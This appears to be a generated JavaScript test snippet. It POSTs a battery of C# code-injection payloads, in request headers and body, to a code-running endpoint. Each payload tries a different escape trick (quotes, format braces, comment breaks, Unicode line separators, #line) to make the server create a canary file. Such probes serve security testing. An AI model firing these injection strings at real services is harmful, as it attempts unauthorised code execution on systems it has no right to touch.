const xhr = new XMLHttpRequest();
xhr.open("POST", "https://api.example.com/run");
xhr.setRequestHeader("X-Try-1", "{System.IO.File.Create(\"snipgen-canary\")}");
xhr.setRequestHeader("X-Try-2", "{{System.IO.File.Create(\"snipgen-canary\")}}");
xhr.setRequestHeader("X-Try-3", "\"+System.IO.File.Create(\"snipgen-canary\")+\"");
xhr.setRequestHeader("X-Try-4", "\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"");
xhr.setRequestHeader("X-Try-5", "\"\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\"");
xhr.setRequestHeader("X-Try-6", "\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\"");
xhr.setRequestHeader("X-Try-7", "\\\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\\\"");
xhr.setRequestHeader("X-Try-8", "@\"\\\"+System.IO.File.Create(\"snipgen-canary\")+\"");
xhr.setRequestHeader("X-Try-9", "$\"{System.IO.File.Create(\"snipgen-canary\")}\"");
xhr.setRequestHeader("X-Try-10", "{0} {x:System.IO.File.Create(\"snipgen-canary\")} {");
xhr.setRequestHeader("X-Try-11", "}");
xhr.setRequestHeader("X-Try-12", "\\u0022+System.IO.File.Create(\"snipgen-canary\")+\\u0022");
xhr.setRequestHeader("X-Try-13", "*/System.IO.File.Create(\"snipgen-canary\");/*");
xhr.setRequestHeader("X-Try-14", "Â\x85System.IO.File.Create(\"snipgen-canary\");//");
xhr.setRequestHeader("X-Try-15", "â\x80¨System.IO.File.Create(\"snipgen-canary\");â\x80©//");
xhr.setRequestHeader("X-Try-17", "\\");
xhr.setRequestHeader("Content-Type", "text/plain");
xhr.onload = () => console.log(xhr.responseText);
xhr.onerror = () => console.error("The request failed");
xhr.send(`{System.IO.File.Create("snipgen-canary")}
{{System.IO.File.Create("snipgen-canary")}}
"+System.IO.File.Create("snipgen-canary")+"
""+System.IO.File.Create("snipgen-canary")+""
"""+System.IO.File.Create("snipgen-canary")+"""
\\"+System.IO.File.Create("snipgen-canary")+\\"
\\\\"+System.IO.File.Create("snipgen-canary")+\\\\"
@"\\"+System.IO.File.Create("snipgen-canary")+"
$"{System.IO.File.Create("snipgen-canary")}"
{0} {x:System.IO.File.Create("snipgen-canary")} {
}
\\u0022+System.IO.File.Create("snipgen-canary")+\\u0022
*/System.IO.File.Create("snipgen-canary");/*
\x85System.IO.File.Create("snipgen-canary");//
\u2028System.IO.File.Create("snipgen-canary");\u2029//
"
#line 1
System.IO.File.Create("snipgen-canary");//
\\`);
